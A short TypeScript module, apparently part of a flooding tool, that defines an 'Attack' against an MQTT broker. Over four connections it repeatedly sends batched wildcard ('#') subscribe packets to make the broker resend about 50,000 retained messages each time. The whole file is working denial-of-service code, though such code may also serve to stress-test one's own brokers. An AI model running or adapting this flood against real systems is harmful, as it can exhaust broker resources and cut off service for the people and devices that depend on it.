import mqttPacket, { type ISubscription } from 'mqtt-packet'
import { type Attack, copies, inLanes, openMqtt, pour } from '../flood.ts'

const CONNECTIONS = 4

export const retained: Attack = {
  about: 'subscribes to # over 50,000 retained messages again and again',
  start(target) {
    const subscriptions: ISubscription[] = [{ topic: '#', qos: 0 }]
    const packet = { cmd: 'subscribe', messageId: 1, subscriptions } as const
    const bytes = copies(mqttPacket.generate(packet, { protocolVersion: 5 }), 10)
    inLanes(CONNECTIONS, async (lane) =>
      pour(await openMqtt(target, { clientId: `retained-${lane}` }), () => bytes),
    )
  },
}
